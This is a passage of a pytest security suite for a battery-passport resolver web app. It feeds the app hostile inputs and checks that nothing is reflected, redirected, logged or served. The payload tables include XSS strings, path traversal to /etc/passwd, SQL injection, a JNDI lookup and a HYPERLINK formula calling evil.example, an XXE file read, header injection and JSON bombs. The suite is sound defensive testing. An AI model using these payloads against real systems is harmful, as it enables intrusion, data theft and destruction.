"""What strangers send, and what a hostile issuer writes into a passport: nothing of it is run, believed or kept.

The corpus is tables: a new attack is one line in :data:`TEXTS`, :data:`PATHS`, :data:`HEADERS`, :data:`BODIES` or in
:data:`SHAPES`. Where it is tried follows from the application itself: its list of routes, the parameters that its
source asks for, the methods that each route takes. So neither a new attack nor a new route needs a new test.

What holds for every answer is in :func:`assert_sound`. Requests are made by hand, byte for byte, since a client library
would refuse to send most of them.
"""

from __future__ import annotations

import io
import json
import logging
import re
from base64 import b64decode
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from functools import cache, lru_cache
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_from_bytes, unquote_to_bytes, urlsplit

import pytest
from werkzeug.test import run_wsgi_app
from werkzeug.wrappers import Response

from passport.battery.record import Record
from passport.errors import FaultyRecord, PassportError
from passport.publishing.publisher import Publisher
from passport.store import Store
from passport.vocabulary import vocabulary as vocabulary_module
from passport.vocabulary.vocabulary import Carrier, Category, Datatype
from resolver.forms import openapi
from resolver.serving.public_cache import Front
from tests.conftest import share
from tests.each import each
from tests.packs import example_records
from tests.unjudged_publisher import UnjudgedPublisher

BASE = "https://passport.example.com"
GTIN = "/01/09529999001009"
PACK = f"{GTIN}/21/A7K2M05G6J0000317"
HTML = {"Accept": "text/html"}
SCRIPT = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}\u202e</td>"
LINK = "javascript:alert(1)"
SERIAL = "\"><xmp>'&%41"
HOSTILE = f"{BASE}/id/{quote('<svg onload=alert(1)>', safe='')}/{quote(SERIAL, safe='')}"
VOCABULARY = vocabulary_module.load()

# --- the corpus -----------------------------------------------------------------------------------------------------


#: Language tags that are none: in records, in uploaded documents, in Accept-Language and in ?lang=.
TAGS = {
    "tag that is markup": 'en"><script>alert(1)</script>',
    "tag that leaves its literal": "en> <http://evil.example/> .\n<a:b> <c:d> <e:f",
    "tag with line breaks": "en\r\nX-Injected: 1\r\n\r\n<script>",
    "over-long tag": "en-" + "a" * 5000,
    "over-long private tag": "x-" + "-".join(["abcdefgh"] * 500),
    "private tag": "x-klingon",
    "tag with right-to-left override": "en\u202e-\u2066",
    "tag with NUL": "en\0zh",
    "tag of an attribute": 'zh" onmouseover="alert(1)',
    "keyword as a tag": "@none",
    "empty tag": "",
    "full-width tag": "ｅｎ",
}  # fmt: skip

#: Texts: in every part of a path, in every parameter, header and form field.
TEXTS = {
    **TAGS,
    "markup": SCRIPT,
    "script address": LINK,
    "script address, disguised": " jAvA\tscript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "markup in an attribute": "' autofocus onfocus=alert(1) x='",
    "markup, half a comment": "--><svg/onload=alert(1)><!--",
    "template": "{{config}}{% for x in () %}${7*7}#{7*7}",
    "header": "\r\nX-Injected: 1\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "header, bare line feed": "x\nX-Injected: 1",
    "header, bare carriage return": "x\rX-Injected: 1",
    "header, encoded twice": "%0d%0aX-Injected:%201",
    "header, beyond Latin": "嘊嘍X-Injected: 1",
    "NUL": "A7K2\0.html",
    "terminal colours": "\x1b[31mred\x1b]0;title\x07",
    "terminal, eight bits": "\x9b31mred\x9d0;title\x9c",
    "line separators": "a\u2028b\u2029c\x85d",
    "bidirectional": "\u202e\u2066gpj.exe\u2069",
    "log entry": "x\n2027-03-08 09:30:00 ERROR resolver: forged",
    "log formula": "%s%n%(name)s{0.__class__}",
    "dot segments": "../" * 9 + "etc/passwd",
    "dot segments, encoded": "%2e%2e%2f" * 9 + "etc/passwd",
    "dot segments, encoded twice": "%252e%252e%252f",
    "back slashes": "..\\..\\state.db",
    "another host": "//evil.example/",
    "another host, back slash": "/\\evil.example",
    "another host as user": "@evil.example/",
    "whole address elsewhere": "https://evil.example" + PACK,
    "whole address, ours in front": f"{BASE}.evil.example{PACK}",
    "lookup": "${jndi:ldap://evil.example/x}",
    "statement": "' OR '1'='1'; DROP TABLE packs; --",
    "wildcard": "%_*?[]",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "lone surrogate": "\ud800",
    "beyond the basic plane": "\U0001f600\U000e0041",
    "full-width digits": "０９５２９９９９００１００９",
    "Arabic digits": "٠٩٥٢٩٩٩٩٠٠١٠٠٩",
    "long": "a" * 5000,
    "many segments": "a/" * 400,
    "a number without end": "9" * 4000,
    "negative": "-1",
}  # fmt: skip

#: Paths as bytes on the wire, after /passports too; each leads to no passport but at most to the model's.
PATHS = {
    "slash in a serial": f"{GTIN}/21/a%2F..%2F..%2Fb", "dots": f"{GTIN}/21/%2e%2e",
    "dots twice": f"{GTIN}/21/%252e%252e",
    "NUL behind": f"{GTIN}/21/A7K2M05G6J0000317%00", "NUL between": f"{GTIN}%00/21/A7K2M05G6J0000317",
    "back slash": f"{GTIN}/21/a%5cb", "line break": f"{GTIN}/21/A7K2M05G6J0000317%0a", "tab": f"{GTIN}/21/%09",
    "overlong slash": f"{GTIN}/21/%c0%af", "overlong slash in three": f"{GTIN}/21/%e0%80%af",
    "overlong dot": f"{GTIN}/21/%c0%ae%c0%ae/x", "overlong NUL": f"{GTIN}/21/A7K2M05G6J0000317%c0%80",
    "no UTF-8": f"{GTIN}/21/%ff", "half a character": f"{GTIN}/21/%e4%b8", "surrogate": f"{GTIN}/21/%ed%a0%80",
    "percent alone": f"{GTIN}/21/%", "percent u": f"{GTIN}/21/%u0041",
    "full-width digits": "/01/" + quote("０９５２９９９９００１００９"),
    "Arabic digits": "/01/" + quote("٠٩٥٢٩٩٩٩٠٠١٠٠٩"),
    "superscript digit": "/01/0952999900100" + quote("⁹"),
    "Cyrillic letter": "/id/V" + quote("О") + "-HV13/VO26090001742",
    "Greek letter": "/id/" + quote("Ⅴ") + "O-HV13/VO26090001742", "zero width": "/id/VO-HV13/VO2609%E2%80%8B0001742",
    "byte order mark": "/id/VO-HV13/%EF%BB%BFVO26090001742", "soft hyphen": "/id/VO-HV13/VO2609%C2%AD0001742",
    "combining mark": "/id/VO-HV13/VO26090001742%CC%81", "blank": "/id/VO-HV13/%20VO26090001742",
    "blank behind": "/id/VO-HV13/VO26090001742%20", "plus": "/id/VO-HV13/+VO26090001742",
    "other case": "/id/vo-hv13/VO26090001742", "matrix parameter": "/01/09529999001009;x=y",
    "empty segment": "/01//0952",
    "dot segment": "/01/./09529999001009", "dots between": "/01/../id/VO-HV13", "dots behind": f"{PACK}/..",
    "two slashes behind": f"{PACK}//", "twice": "/passports/passports" + GTIN, "address inside": "/https:/evil.example",
    "host inside": "//evil.example" + GTIN,
}  # fmt: skip

#: Paths to what is no part of the site.
FILES = (
    "/static/..%2f..%2fpassport.css", "/static/../app.py", "/shapes/%2e%2e/x.ttl", "/shapes/..%2Fpyproject.toml",
    "/shapes/..%5cpyproject.toml", "/shapes//etc/passwd", "/credentials/..%2f..%2fkeys%2fissuer.pem",
    "/keys/issuer.pem",
    "/passports.db", "/state.db", "/.git/config", "/.env", "/passport.toml", "/dumps/%2e%2e%2fstate.db", "/v1/../token",
    "/v1/dpps/%2e%2e", "/%2e%2e/%2e%2e/etc/passwd", "/ns/..%2f..%2fetc%2fpasswd", "/server-status", "/console",
    "/debug",
)  # fmt: skip

#: Headers with which a cache, a proxy or a framework is led astray. No answer may depend on one of them.
HEADERS = {
    "Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http", "X-Forwarded-Port": "81",
    "X-Forwarded-Prefix": "/evil", "X-Forwarded-Scheme": "nothttps", "X-Forwarded-Server": "evil.example",
    "X-Forwarded-For": "203.0.113.9", "X-Host": "evil.example", "X-Real-IP": "203.0.113.9", "Via": "evil.example",
    "Forwarded": "host=evil.example;proto=http", "X-Original-URL": "/evil", "X-Rewrite-URL": "/evil",
    "X-Original-Host": "evil.example", "X-HTTP-Method": "DELETE", "X-HTTP-Method-Override": "POST",
    "X-Method-Override": "PUT", "X-Wap-Profile": "http://evil.example/", "Origin": "https://evil.example",
    "Referer": "https://evil.example/", "User-Agent": SCRIPT.encode("ascii", "ignore").decode(),
    "Cookie": "lang=zh; a=evil",
    "Base-Url": "http://evil.example", "Client-IP": "203.0.113.9", "True-Client-IP": "evil",
    "X-Accel-Redirect": "/evil",
    "X-Sendfile": "/etc/passwd", "X-Audience": "commission", "X-Role": "evil", "X-Forwarded-User": "evil",
    "Transfer-Encoding": "evil", "Pragma": "evil", "Cache-Control": "no-cache, evil", "Accept-Encoding": "evil",
    "Accept-Charset": "evil", "Front-End-Https": "off", "X-Forwarded-Ssl": "off", "Max-Forwards": "0", "TE": "trailers",
}  # fmt: skip

#: Bodies: each is refused by each route that takes one.
BODIES = {
    "too large": b'{"presentation": "' + b"a" * 1_100_000 + b'"}',
    "too deep": b'{"presentation": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "deep objects": b'{"presentation": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}",
    "deep and open": b"[" * 900_000,
    "wide": b"[" + b"[]," * 300_000 + b"[]]",
    "many keys": b"{" + b",".join(b'"k%d":0' % number for number in range(60_000)) + b"}",
    "twice the same key": b'{"presentation": {}, "presentation": {}}',
    "a number without end": b'{"presentation": ' + b"9" * 100_000 + b"}",
    "an exponent without end": b'{"presentation": 1e' + b"9" * 100_000 + b"}",
    "not a number": b'{"presentation": NaN}',
    "half a character": b'{"presentation": "\xed\xa0\x80"}',
    "a lone surrogate": b'{"presentation": "\\ud800"}',
    "nothing": b"",
    "a byte order mark": b"\xef\xbb\xbf{}",
    "zeros": b"\0" * 1000,
    "markup": SCRIPT.encode(),
    "an entity": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "compressed": bytes.fromhex("1f8b08000000000000ffab56ca2f4a51b2520a2d4e2d52aa05005bd3a2a20f000000"),
}  # fmt: skip

# --- what holds for every answer ------------------------------------------------------------------------------------


SAVED = "data:text/html;charset=utf-8;base64,"


class Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.saved: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list) -> None:
        # A data block is no script. (HTML, "prepare the script element"; the type is all that makes the difference)
        # And the page with the camera has one script of ours, from a file.
        if (tag, attrs) not in (
            ("script", [("type", "application/ld+json")]), ("script", [("src", "/static/scan.js"), ("defer", None)])
        ):  # fmt: skip
            self.tags.add(tag)
        given = {name: value or "" for name, value in attrs}
        if tag == "a" and "download" in given and given.get("href", "").startswith(SAVED):
            # A report to save. No browser opens such an address in a tab; what is saved is looked at like a page.
            self.saved.append(b64decode(given["href"].removeprefix(SAVED)).decode())
            attrs = [(name, value) for name, value in attrs if name != "href"]
        self.attributes += [(name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag


@lru_cache(maxsize=256)
def assert_harmless(text: str) -> None:
    """Nothing in a page runs or leads to what runs. Most requests get a page that others got too: it is read once."""
    page = Page(text)
    assert not page.tags & {"script", "iframe", "object", "embed", "base", "xmp", "img"}
    assert not [name for name, _ in page.attributes if name.startswith("on") or name in ("srcdoc", "autofocus")]
    for name, value in page.attributes:
        if name in ("href", "src", "action", "formaction", "xlink:href"):
            assert not re.sub(r"[\s\0]", "", value).lower().startswith(("javascript:", "vbscript:", "data:text")), value
        if name in ("lang", "hreflang") and value != "@none":  # JSON-LD's word for no language
            assert re.fullmatch(r"[A-Za-z]{1,8}(-[A-Za-z0-9]{1,8})*", value), value
    assert "49\u202e" not in text  # {{7*7}} was not calculated
    for saved in page.saved:
        assert_harmless(saved)


_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]|[^\x00-\xff]")
_TERMINAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def assert_sound(answer: Response, where: object, signed_links: frozenset[str] = frozenset()) -> None:
    """Nothing broke; nothing that was sent became a header, markup, an address elsewhere or a command to a terminal.

    :param signed_links: addresses elsewhere that a signed passport names.
    """
    assert answer.status_code < 500, where
    for name, value in answer.headers:
        assert not _CONTROL.search(name + value), (where, name)
        assert name not in ("Set-Cookie", "X-Injected", "Refresh", "X-Accel-Redirect"), where
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"], where
    assert answer.headers["X-Content-Type-Options"] == "nosniff", where
    if 300 <= answer.status_code < 400 and answer.status_code not in (300, 304) or "Location" in answer.headers:
        target = answer.headers["Location"]
        assert (
            target.startswith(f"{BASE}/")
            and urlsplit(target).netloc == urlsplit(BASE).netloc
            or (target in signed_links)
        ), (where, target)
    if answer.status_code >= 400:
        assert "no-store" in answer.headers["Cache-Control"], where
        # Below a serial number that nobody issued, the page of the model goes on.
        assert len(answer.data) < (60_000 if b'class="unissued"' in answer.data else 20_000), where
        if answer.mimetype == "application/json" and answer.data:  # below /v1, in the envelope of EN 18222
            assert {"messageType", "text", "code"} <= set(json.loads(answer.data)["messages"][0]), where
        elif answer.mimetype != "text/html" and answer.data:
            assert answer.mimetype == "application/problem+json", where
            assert json.loads(answer.data)["status"] == answer.status_code, where
    if answer.mimetype == "text/html":
        assert_harmless(answer.get_data(as_text=True))
    elif answer.data:
        assert not _TERMINAL.search(answer.get_data(as_text=True)), where
    assert b"PRIVATE KEY" not in answer.data and b"root:" not in answer.data, where


def assert_clean(caplog: pytest.LogCaptureFixture) -> None:
    """Not a line of the log holds anything that a stranger sent, who it was, or what was asked for."""
    for record in caplog.records:
        line = record.getMessage()
        assert "192.0.2.7" not in line and "?" not in line and "=" not in line, line
        assert not _CONTROL.search(line) and "forged" not in line and "evil" not in line and "script" not in line, line


def send(app: Any, path: str | bytes, headers: dict[str, str] | None = None, *, method: str = "GET", query: str = "",
         body: bytes | None = None, **environ: Any) -> Response:  # fmt: skip
    """A request as it may arrive from any client.

    :param path: percent-encoded; decoded once, as servers do.
    :param query: as it stands in the request.
    """
    # As Unicode within Latin-1, which is how WSGI hands on bytes. (PEP 3333)
    asked = {
        "REQUEST_METHOD": method, "SCRIPT_NAME": "", "PATH_INFO": unquote_to_bytes(path).decode("latin-1"),
        "QUERY_STRING": query, "SERVER_NAME": "127.0.0.1", "SERVER_PORT": "8080", "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": "192.0.2.7", "HTTP_HOST": "passport.example.com", "wsgi.version": (1, 0),
        "wsgi.url_scheme": "http", "wsgi.input": io.BytesIO(body or b""), "wsgi.errors": io.StringIO(),
        "wsgi.multithread": True, "wsgi.multiprocess": False, "wsgi.run_once": False,
        **({"CONTENT_LENGTH": str(len(body))} if body is not None else {}),
    }  # fmt: skip
    for name, value in (headers or {}).items():
        key = name.upper().replace("-", "_")
        raw = value.encode("utf-8", "surrogatepass").decode("latin-1")
        asked[key if key in ("CONTENT_TYPE", "CONTENT_LENGTH") else f"HTTP_{key}"] = raw
    chunks, status, sent = run_wsgi_app(app, {**asked, **environ}, buffered=True)
    return Response(chunks, status, sent)


def encoded(text: str) -> str:
    """A text as one segment of a path or one value of a query."""
    return quote_from_bytes(text.encode("utf-8", "surrogatepass"), safe="")


def behind_the_front(site: Any) -> Front:
    return Front(site.app.wsgi_app, site.app.extensions["resolver"])


# --- what an issuer may write ---------------------------------------------------------------------------------------


VALUES = {
    Datatype.STRING: SCRIPT, Datatype.ANY_URI: LINK, Datatype.DECIMAL: "1.5", Datatype.INTEGER: 3,
    Datatype.BOOLEAN: True, Datatype.DATE: "2026-06-18", Datatype.DATE_TIME: "2026-06-18T00:00:00Z",
    Datatype.DURATION: "PT10S",
}  # fmt: skip


def hostile_record(text: str = SCRIPT, link: str = LINK, tags: tuple[str, ...] = ("en", "zh")) -> Record:
    """A passport with the same hostile text, address and language tags wherever one may stand."""

    def value(kind: Any) -> Any:
        if getattr(kind, "fields", ()):
            return {field.name: value(field) for field in kind.fields if not field.personal_data}
        if kind.datatype is Datatype.ENUM:
            return next(iter(kind.enumeration.codes)).code
        if kind.datatype is Datatype.LANG_STRING:
            return dict.fromkeys(tags, text)
        return {**VALUES, Datatype.STRING: text, Datatype.ANY_URI: link}[kind.datatype]

    parts: dict[Carrier, dict[str, Any]] = {carrier: {} for carrier in Carrier}
    for indicator in VOCABULARY.indicators.values():
        if not indicator.personal_data and indicator.id not in ("gtin", "packTractionBatteryCode"):
            said = value(indicator)
            parts[indicator.carrier][indicator.id] = [said] if indicator.repeatable else said
    model = {**parts[Carrier.MODEL], **parts[Carrier.MODEL_DETAIL], **parts[Carrier.BATCH], "batteryCategory": "ev",
             "batteryModelIdentifier": "<svg onload=alert(1)>"}  # fmt: skip
    pack = {**parts[Carrier.PASSPORT], "batteryIdentifier": HOSTILE, "serialNumber": SERIAL}
    condition = {"recordedAt": "2026-06-18T00:00:00Z", **parts[Carrier.CONDITION]}
    return Record(Category.EV, model, pack, condition, {"production": parts[Carrier.EVENT]})


def signed(operator: Any, record: Record) -> Any:
    store = Store.open("sqlite://")
    UnjudgedPublisher(store, operator.issuer, BASE, VOCABULARY, ()).issue(
        [record], at=datetime(2027, 3, 8, 8, 30, tzinfo=UTC)
    )
    return replace(operator, store=store, packs={"ev": HOSTILE})


@pytest.fixture(scope="module")
def hostile(operator):
    return signed(operator, hostile_record())


@pytest.fixture(scope="module")
def hostile_site(hostile, make_site, tmp_path_factory):
    return make_site(hostile, tmp_path_factory.mktemp("hostile"))


def faces(site: Any) -> Iterator[tuple[str, str]]:
    """Path and query of all that is said of the hostile passport."""
    path = HOSTILE.removeprefix(BASE)
    for one in (path, path.rpartition("/")[0]):
        yield from ((f"/passports{one}", f"format={form}") for form in ("vp", "jsonld", "csv", "nquads", "turtle"))
        yield from ((f"/passports{one}", f"lang={language}") for language in ("en", "zh"))
        yield from ((one, f"linkType={kind}") for kind in ("linkset", "gs1:instructions", "gs1:certificationInfo"))
    dpp = "/v1/dpps/" + encoded(f"{BASE}/passports{path}")
    yield from ((dpp, ""), (dpp, "representation=full"), ("/search", "category=ev"), ("/search", "format=json"))
    yield from (("/dumps/passports.nq", ""), ("/dumps/passports.csv", ""), ("/search", "model=svg"))


@pytest.mark.product(of=4)
@pytest.mark.parametrize("language", ["en", "zh"])
@pytest.mark.parametrize(
    ("turn", "audience"), list(enumerate([None, "legitimate-interest", "cn-regulator", "market-surveillance"]))
)
def test_no_text_of_a_passport_becomes_markup(hostile, hostile_site, turn, audience, language):
    site = hostile_site
    headers = {**HTML, **(site.bearer(audience) if audience else {})}
    for subject in share((HOSTILE, HOSTILE.rpartition("/")[0]), turn + len(language), of=2):
        answer = site.client.get(site.path(subject) + f"?lang={language}", headers=headers)
        assert answer.status_code == 200
        assert "&lt;script&gt;" in answer.text or subject != HOSTILE
        assert_harmless(answer.text)


@pytest.mark.product(of=8)
@pytest.mark.parametrize(("turn", "text"), list(enumerate(TEXTS.values())), ids=TEXTS)
def test_no_text_or_address_of_a_passport_does_harm_in_any_form(operator, make_site, tmp_path, caplog, turn, text):
    try:
        site = make_site(signed(operator, hostile_record(text=text, link=text)), tmp_path)
    except PassportError:
        return  # nothing was signed, so nothing is shown
    caplog.set_level(logging.DEBUG)
    stack, bearer = behind_the_front(site), site.bearer()
    for path, query in share(faces(site), turn, of=4):
        for headers in ({}, bearer) if query in ("format=vp", "lang=en", "format=nquads") else ({},):
            answer = send(stack, path, {**HTML, **headers} if "lang" in query else headers, query=query)
            named = frozenset((text,)) if text.startswith("https://") else frozenset()
            if answer.status_code == 200 and answer.mimetype in ("application/n-quads", "text/turtle"):
                assert b"evil.example/> ." not in answer.data  # no statement of its own
            else:
                assert_sound(answer, (path, query), named)
    assert_clean(caplog)


@pytest.mark.product(of=3)
@pytest.mark.parametrize(("turn", "tag"), list(enumerate(TAGS.values())), ids=TAGS)
def test_no_language_tag_of_a_passport_does_harm_in_any_form(operator, make_site, tmp_path, caplog, turn, tag):
    try:
        site = make_site(signed(operator, hostile_record(tags=("en", tag))), tmp_path)
    except PassportError:
        return
    caplog.set_level(logging.DEBUG)
    stack, bearer = behind_the_front(site), site.bearer()
    for path, query in share(faces(site), turn, of=4):
        for headers in ({}, bearer):
            answer = send(stack, path, {**HTML, **headers} if "lang" in query else headers, query=query)
            assert_sound(answer, (path, query))
            if answer.mimetype in ("application/n-quads", "text/turtle"):
                assert b"<http://evil.example/>" not in answer.data
                assert set(re.findall(rb'"@([A-Za-z0-9-]*)', answer.data)) <= {b"en", tag.lower().encode()}
    assert_clean(caplog)


@cache
def example() -> Record:
    return example_records("ev-ncm-100kwh.xlsx")[0]


@pytest.mark.product(of=3)
@pytest.mark.parametrize("tag", share([tag for name, tag in TAGS.items() if name != "private tag"], 0, of=2))
def test_a_record_with_such_a_language_tag_is_not_issued(operator, tag):
    record = example()
    (meaning, *others) = record.model["labelMeaning"]
    name = VOCABULARY.indicators["labelMeaning"].fields
    text = next(field.name for field in name if field.datatype is Datatype.LANG_STRING)
    spoilt = [{**meaning, text: {"en": "x", tag: "x"}}, *others]
    publisher = Publisher(Store.open("sqlite://"), operator.issuer, BASE, VOCABULARY,
                          tuple(vocabulary_module.regimes().values()))  # fmt: skip
    with pytest.raises(FaultyRecord):
        publisher.issue([replace(record, model={**record.model, "labelMeaning": spoilt})],
                        at=datetime(2027, 3, 8, 8, 30, tzinfo=UTC))  # fmt: skip


def test_no_address_of_a_passport_but_a_web_address_becomes_a_link(hostile, make_site, tmp_path):
    site = make_site(hostile, tmp_path)
    path = HOSTILE.removeprefix(BASE)
    document = site.client.get(path, headers={"Accept": "application/linkset+json"}).json
    assert LINK not in json.dumps(document)
    answer = site.client.get(path + "?linkType=gs1:instructions")
    assert answer.status_code == 404
    assert "Location" not in answer.headers


def test_a_hostile_serial_keeps_its_one_address(hostile, make_site, tmp_path):
    site = make_site(hostile, tmp_path)
    answer = site.client.get(HOSTILE.removeprefix(BASE))
    assert answer.headers["Location"] == BASE + "/passports" + HOSTILE.removeprefix(BASE)
    assert site.client.get(answer.headers["Location"].removeprefix(BASE), headers=HTML).status_code == 200


@pytest.fixture(scope="module")
def asked_site(operator, make_site, tmp_path_factory):
    """A site whose tokens are asked for with hostile credentials."""
    return make_site(operator, tmp_path_factory.mktemp("asked"))


@pytest.mark.product(of=8)
@pytest.mark.parametrize(("turn", "text"), list(enumerate(TEXTS.values())), ids=TEXTS)
def test_no_text_of_a_role_credential_does_harm(asked_site, caplog, turn, text):
    site = asked_site
    caplog.set_level(logging.DEBUG)
    try:
        role = site.operator.grant(site.holder, "commission", purpose=text)
        presentation = site.presentation(role)
    except PassportError:
        return
    stack = behind_the_front(site)
    granted = send(stack, "/token", {"Content-Type": "application/json"}, method="POST",
                   body=json.dumps({"presentation": presentation}).encode())  # fmt: skip
    assert_sound(granted, text)
    if granted.status_code == 200:
        bearer = {"Authorization": f"Bearer {json.loads(granted.data)['access_token']}"}
        before = len(site.state.accesses())
        for form in share((HTML, {"Accept": "application/vp"}, {"Accept": "text/csv"}), turn, of=3):
            answer = send(stack, f"/passports{PACK}", {**form, **bearer})
            assert answer.status_code == 200
            assert_sound(answer, text)
        assert len(entries := site.state.accesses()) > before
        for entry in entries:
            assert entry.purpose.isprintable() and len(entry.purpose) <= 200
    assert_clean(caplog)


# --- what a reader may send -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def front(operator, make_site, tmp_path_factory):
    """The resolver as it stands behind a server, and its list of routes."""
    site = make_site(operator, tmp_path_factory.mktemp("attacked"))
    stack = behind_the_front(site)
    stack.rules = tuple(site.app.url_map.iter_rules())
    return stack


_PLACE = re.compile(r"<(?:(\w+)(?:\((.*?)\))?:)?\w+>")


def addresses(rule: str, text: str) -> Iterator[str]:
    """The addresses of a route with a text in each place that it leaves open, and behind what is there."""
    places = list(_PLACE.finditer(rule))

    def filled(hit: re.Match, spoilt: int) -> str:
        first = re.search(r'"([^"]+)"', hit[2] or "")
        if hit[1] == "any" and first:
            return first[1]
        return encoded(text) if hit.start() == spoilt else "AQnYUc1gmiCNV4JGYg" if hit[1] == "compressed" else "x"

    for start in [place.start() for place in places]:
        yield _PLACE.sub(lambda hit, spoilt=start: filled(hit, spoilt), rule)
    yield _PLACE.sub(lambda hit: filled(hit, -1), rule).rstrip("/") + "/" + encoded(text)


def parameters() -> frozenset[str]:
    """The names that our source asks for in a query, and those that the OpenAPI document promises."""
    sources = (Path(__file__).parents[2] / "resolver").rglob("*.py")
    asked = {name for one in sources for name in re.findall(r'args\.get(?:list)?\("(\w+)"', one.read_text("utf-8"))}
    operations = [each for item in openapi.document(BASE)["paths"].values() for each in item.values()]
    return frozenset(asked | {one["name"] for each in operations for one in each["parameters"] if one["in"] == "query"})


@pytest.mark.product(of=6)
@pytest.mark.parametrize(("turn", "text"), list(enumerate(TEXTS.values())), ids=TEXTS)
def test_a_text_in_any_path_of_any_route_does_no_harm(front, caplog, turn, text):
    caplog.set_level(logging.DEBUG)
    for number, rule in enumerate(share(front.rules, turn, of=4)):
        for path in addresses(rule.rule, text):
            for method in share(sorted(rule.methods - {"OPTIONS"}), number, of=2):
                body = b"" if method == "POST" else None
                assert_sound(send(front, path, HTML, method=method, body=body), (method, path))
    assert_clean(caplog)


@pytest.mark.product(of=6)
@pytest.mark.parametrize(("turn", "text"), list(enumerate(TEXTS.values())), ids=TEXTS)
def test_a_text_in_any_parameter_does_no_harm(front, caplog, turn, text):
    caplog.set_level(logging.DEBUG)
    routes = [rule.rule for rule in front.rules if "GET" in rule.methods and "<" not in rule.rule]
    dpp = "/v1/dpps/" + encoded(f"{BASE}/passports{PACK}")
    for name in share(sorted(parameters()), turn, of=12):
        query = f"{name}={encoded(text)}"
        for path in (PACK, f"/passports{PACK}", dpp, "/find", "/search"):
            if name == "date":
                path = path.replace("/dpps/", "/dppsByIdAndDate/")
            elif path == dpp and name not in ("representation", "format"):
                continue
            assert_sound(send(front, path, {"Accept": "application/vp, text/html;q=0.5"}, query=query), (path, query))
    # All at once, also where nobody asks for them.
    query = "&".join(f"{name}={encoded(text)}" for name in sorted(parameters()))
    for path in share((*routes, f"/passports{PACK}", PACK), turn, of=8):
        assert_sound(send(front, path, HTML, query=query), (path, query))
    # Not percent-encoded at all: what a server hands on.
    raw = text.encode("utf-8", "surrogatepass").decode("latin-1")
    for path in share((PACK, f"/passports{PACK}", "/find", "/search"), turn, of=4):
        assert_sound(send(front, path, HTML, query=f"lang={raw}&code={raw}&x={raw}"), (path, raw))
    assert_clean(caplog)


@pytest.mark.product(of=6)
@pytest.mark.parametrize(("turn", "text"), list(enumerate(TEXTS.values())), ids=TEXTS)
def test_a_text_in_any_header_does_no_harm(front, caplog, turn, text):
    caplog.set_level(logging.DEBUG)
    read = ("Accept", "Accept-Language", "Authorization", "If-None-Match", "If-Modified-Since", "Range", "Content-Type",
            "Sec-Fetch-Site", "Host", "X-Forwarded-For")  # fmt: skip
    each = [{name: text} for name in read] + [{"Authorization": f"Bearer {text}"}, dict.fromkeys(HEADERS, text)]
    for number, headers in enumerate(each):
        for path in share((PACK, "/search", f"/passports{PACK}", PACK, "/search", PACK), turn + number, of=6):
            answer = send(front, path, {"Accept": "application/vp, application/json;q=0.9", **headers})
            assert_sound(answer, (path, headers))
    for path in share((f"/passports{PACK}", "/find", "/search"), turn, of=3):
        page = send(front, path, {**HTML, "Accept-Language": text})
        assert page.headers["Content-Language"] in ("en", "zh")
        assert_sound(page, "Accept-Language")
    assert_clean(caplog)


@pytest.mark.product(of=6)
@pytest.mark.parametrize(("turn", "text"), list(enumerate(TEXTS.values())), ids=TEXTS)
def test_a_text_in_any_form_does_no_harm(front, caplog, turn, text):
    caplog.set_level(logging.DEBUG)
    names = ("token", "access_token", "passport", "presentation", "text", "grant_type", "vp_token", "assertion",
             "audience", "token_type_hint")  # fmt: skip
    form = "&".join(f"{name}={encoded(text)}" for name in names).encode()
    part = (b'--x\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\n'
            b"Content-Type: %s\r\n\r\n{}\r\n--x--\r\n")  # fmt: skip
    raw = text.encode("utf-8", "surrogatepass")
    for path in share(posts(front), turn, of=8):
        for body, kind in ((form, "application/x-www-form-urlencoded"),
                           (part % (raw, raw), "multipart/form-data; boundary=x"),
                           (json.dumps({"presentation": text, "audience": text, "productIds": [text]}).encode(),
                            "application/json")):  # fmt: skip
            answer = send(front, path, {**HTML, "Content-Type": kind}, method="POST", body=body)
            assert_sound(answer, (path, kind))
    assert_clean(caplog)


# --- uploaded documents ---------------------------------------------------------------------------------------------

#: Shapes of a document at /verify, with a place for a text.
SHAPES = {
    "language in the context": lambda text: {"@context": [V2, {"@language": text}], **UNSIGNED},
    "direction in the context": lambda text: {"@context": [V2, {"@direction": text}], **UNSIGNED},
    "base in the context": lambda text: {"@context": [V2, {"@base": text, "@vocab": text}], **UNSIGNED},
    "context of that name": lambda text: {"@context": [V2, text], **UNSIGNED},
    "language of a value": lambda text: subject({"name": {"@value": "x", "@language": text}}),
    "direction of a value": lambda text: subject({"name": {"@value": "x", "@language": "en", "@direction": text}}),
    "language map": lambda text: subject({"labelMeaning": [{"labelExplanation": {text: text}}]}),
    "type of a value": lambda text: subject({"name": {"@value": "x", "@type": text}}),
    "value": lambda text: subject({"manufacturerName": text, "nominalVoltage": text, "dueDiligenceReport": text}),
    "name of a member": lambda text: subject({text: text}),
    "id of the subject": lambda text: {**DOCUMENT, "credentialSubject": {"id": text, "name": "x"}},
    "id": lambda text: {**DOCUMENT, "id": text},
    "type": lambda text: {**DOCUMENT, "type": ["VerifiableCredential", text]},
    "issuer": lambda text: {**DOCUMENT, "issuer": text},
    "name of the issuer": lambda text: {**DOCUMENT, "issuer": {"id": "did:key:z6Mk", "name": text, text: text}},
